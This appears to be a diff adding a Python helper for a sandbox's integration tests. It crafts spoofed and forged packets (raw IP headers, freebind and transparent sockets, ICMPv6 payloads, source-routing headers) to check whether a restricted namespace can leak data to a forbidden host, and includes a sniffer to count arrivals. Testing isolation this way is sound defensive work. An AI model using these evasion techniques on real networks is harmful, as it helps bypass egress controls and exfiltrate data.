@@ -1,0 +1,243 @@
+#!/usr/bin/env python3
+"""Crafted packets for tests/integration/test_attacks.sh: the ways a process inside a restricted
+namespace could try to get data to a forbidden host, and a sniffer that proves what arrived.
+
+Every command prints one line, "sent ..." or "refused: <errno name>", and exits 0 unless it
+could not even try (then 2). Whether anything arrived is judged by the sniffer or the lab's
+listeners on the forbidden host, never by this side.
+
+  forged-reply FAM FORGE OWN FORBIDDEN PORT MARK [VIA]
+      FORGE raw:       a raw IP_HDRINCL/IPV6_HDRINCL socket (CAP_NET_RAW) sends a UDP datagram
+                       with source FORBIDDEN:PORT to OWN:40000 (over lo)
+      FORGE freebind:  an IPV6_FREEBIND socket (no capability) bound to [FORBIDDEN]:PORT does
+      then the socket bound to OWN:40000 "replies" MARK to FORBIDDEN:PORT; with VIA, the reply is
+      also sent by a raw header-including socket routed by its sendto() address VIA while its
+      header says FORBIDDEN (what a route layer cannot see)
+  tcp-transparent FAM OWN FORBIDDEN PORT
+      an IP_TRANSPARENT socket (CAP_NET_RAW) bound to FORBIDDEN:PORT connects to OWN:40001,
+      where a listener waits: its SYN-ACK goes to FORBIDDEN as a "reply"
+  spoof FAM SRC DST PORT MARK          raw UDP datagram with a source that is not ours
+  nd-payload DST MARK                  an ICMPv6 neighbour solicitation carrying MARK, to DST
+  lsrr HOP DST PORT MARK               UDP with an IPv4 loose source route via HOP
+  srh HOP DST PORT MARK                UDP with an IPv6 segment routing header via HOP
+  sniff IFACE SECONDS MARK [TCPSPORT]  count frames on IFACE holding MARK (or TCP from TCPSPORT)
+"""
+import errno
+import os
+import socket
+import struct
+import sys
+import time
+
+IPV6_FREEBIND = 78
+IP_TRANSPARENT = 19
+IPV6_TRANSPARENT = 75
+IPV6_RTHDR = 57
+IP_OPTIONS = 4
+
+
+def out(msg):
+    print(msg, flush=True)
+
+
+def refused(e):
+    out("refused: " + errno.errorcode.get(e.errno, str(e.errno)))
+
+
+def csum(data):
+    if len(data) % 2:
+        data += b"\0"
+    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
+    while s >> 16:
+        s = (s & 0xFFFF) + (s >> 16)
+    return (~s) & 0xFFFF
+
+
+def udp_packet(fam, src, dst, sport, dport, payload):
+    length = 8 + len(payload)
+    if fam == 4:
+        s, d = socket.inet_pton(socket.AF_INET, src), socket.inet_pton(socket.AF_INET, dst)
+        udp = struct.pack("!HHHH", sport, dport, length, 0) + payload  # checksum 0: none (IPv4)
+        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, 0x4242, 0, 64, 17, 0, s, d)
+        return ip + udp
+    s, d = socket.inet_pton(socket.AF_INET6, src), socket.inet_pton(socket.AF_INET6, dst)
+    pseudo = s + d + struct.pack("!I3xB", length, 17)
+    udp = struct.pack("!HHHH", sport, dport, length, 0) + payload
+    c = csum(pseudo + udp) or 0xFFFF
+    udp = struct.pack("!HHHH", sport, dport, length, c) + payload
+    ip = struct.pack("!IHBB16s16s", 0x60000000, length, 17, 64, s, d)
+    return ip + udp
+
+
+def af(fam):
+    return socket.AF_INET if fam == 4 else socket.AF_INET6
+
+
+def raw_send(fam, pkt, route_to):
+    r = socket.socket(af(fam), socket.SOCK_RAW, socket.IPPROTO_RAW)
+    r.sendto(pkt, (route_to, 0))
+    r.close()
+
+
+def forged_reply(fam, forge, own, forbidden, port, mark, via=None):
+    server = socket.socket(af(fam), socket.SOCK_DGRAM)
+    server.bind((own, 40000))
+    server.settimeout(1.0)
+    try:
+        if forge == "raw":
+            raw_send(fam, udp_packet(fam, forbidden, own, port, 40000, b"forged-opening"), own)
+        else:
+            f = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+            f.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
+            f.bind((forbidden, port))
+            f.sendto(b"forged-opening", (own, 40000))
+    except OSError as e:
+        out("forge " + errno.errorcode.get(e.errno, str(e.errno)))
+    try:
+        _, peer = server.recvfrom(2048)
+        out("forged datagram arrived from %s" % peer[0])
+    except socket.timeout:
+        out("forged datagram did not arrive")
+    results = []
+    for _ in range(3):
+        try:
+            server.sendto(mark.encode(), (forbidden, port))
+            results.append("sent")
+        except OSError as e:
+            results.append("refused: " + errno.errorcode.get(e.errno, str(e.errno)))
+        time.sleep(0.05)
+    if via:
+        try:
+            raw_send(fam, udp_packet(fam, own, forbidden, 40000, port, mark.encode()), via)
+            results.append("raw via %s: sent" % via)
+        except OSError as e:
+            results.append("raw via %s: refused: %s" % (via, errno.errorcode.get(e.errno, str(e.errno))))
+    out("reply: " + ", ".join(results))
+
+
+def tcp_transparent(fam, own, forbidden, port):
+    lst = socket.socket(af(fam), socket.SOCK_STREAM)
+    lst.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    lst.bind((own, 40001))
+    lst.listen(1)
+    t = socket.socket(af(fam), socket.SOCK_STREAM)
+    try:
+        if fam == 4:
+            t.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
+        else:
+            t.setsockopt(socket.IPPROTO_IPV6, IPV6_TRANSPARENT, 1)
+        t.bind((forbidden, port))
+    except OSError as e:
+        refused(e)
+        return
+    t.settimeout(1.5)
+    try:
+        t.connect((own, 40001))
+        out("connected (the SYN-ACK came back)")
+    except OSError as e:
+        out("connect: " + (errno.errorcode.get(e.errno, "timeout") if e.errno else "timeout"))
+
+
+def spoof(fam, src, dst, port, mark):
+    try:
+        raw_send(fam, udp_packet(fam, src, dst, 40002, port, mark.encode()), dst)
+        out("sent")
+    except OSError as e:
+        refused(e)
+
+
+def nd_payload(dst, mark):
+    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
+    target = socket.inet_pton(socket.AF_INET6, dst)
+    msg = struct.pack("!BBHI16s", 135, 0, 0, 0, target) + mark.encode()  # the kernel fills the checksum
+    try:
+        s.sendto(msg, (dst, 0))
+        out("sent")
+    except OSError as e:
+        refused(e)
+
+
+def lsrr(hop, dst, port, mark):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    # NOP, then LSRR: type 131, length 7, pointer 4, one address (the final destination).
+    opt = bytes([1, 131, 7, 4]) + socket.inet_pton(socket.AF_INET, dst)
+    try:
+        s.setsockopt(socket.IPPROTO_IP, IP_OPTIONS, opt)
+        # With a source route the kernel sends to the first hop: sendto names the final destination.
+        s.sendto(mark.encode(), (dst, port))
+        out("sent")
+    except OSError as e:
+        refused(e)
+
+
+def srh(hop, dst, port, mark):
+    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+    # Segment routing header (type 4): segments[0] is the final destination (the kernel writes
+    # sendto's address there), segments[1] the first hop; segments_left 1.
+    segs = socket.inet_pton(socket.AF_INET6, "::") + socket.inet_pton(socket.AF_INET6, hop)
+    hdr = struct.pack("!BBBBBBH", 0, len(segs) // 8, 4, 1, 1, 0, 0) + segs
+    try:
+        s.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, hdr)
+        s.sendto(mark.encode(), (dst, port))
+        out("sent")
+    except OSError as e:
+        refused(e)
+
+
+def sniff(iface, seconds, mark, tcp_sport=None):
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
+    s.bind((iface, 0))
+    s.settimeout(0.1)
+    out("listening")
+    end = time.monotonic() + seconds
+    hits = 0
+    m = mark.encode()
+    while time.monotonic() < end:
+        try:
+            frame = s.recv(65535)
+        except socket.timeout:
+            continue
+        if m in frame:
+            hits += 1
+            continue
+        if tcp_sport is None or len(frame) < 14:
+            continue
+        et = struct.unpack("!H", frame[12:14])[0]
+        if et == 0x0800 and frame[23] == 6:
+            ihl = (frame[14] & 0x0F) * 4
+            if struct.unpack("!H", frame[14 + ihl:16 + ihl])[0] == tcp_sport:
+                hits += 1
+        elif et == 0x86DD and frame[20] == 6:
+            if struct.unpack("!H", frame[54:56])[0] == tcp_sport:
+                hits += 1
+    out("hits %d" % hits)
+
+
+def main(argv):
+    cmd, args = argv[1], argv[2:]
+    try:
+        if cmd == "forged-reply":
+            forged_reply(int(args[0]), args[1], args[2], args[3], int(args[4]), args[5], args[6] if len(args) > 6 else None)
+        elif cmd == "tcp-transparent":
+            tcp_transparent(int(args[0]), args[1], args[2], int(args[3]))
+        elif cmd == "spoof":
+            spoof(int(args[0]), args[1], args[2], int(args[3]), args[4])
+        elif cmd == "nd-payload":
+            nd_payload(args[0], args[1])
+        elif cmd == "lsrr":
+            lsrr(args[0], args[1], int(args[2]), args[3])
+        elif cmd == "srh":
+            srh(args[0], args[1], int(args[2]), args[3])
+        elif cmd == "sniff":
+            sniff(args[0], float(args[1]), args[2], int(args[3]) if len(args) > 3 else None)
+        else:
+            print(__doc__, file=sys.stderr)
+            return 2
+    except OSError as e:
+        out("could not try: %s" % e)
+        return 2
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main(sys.argv))
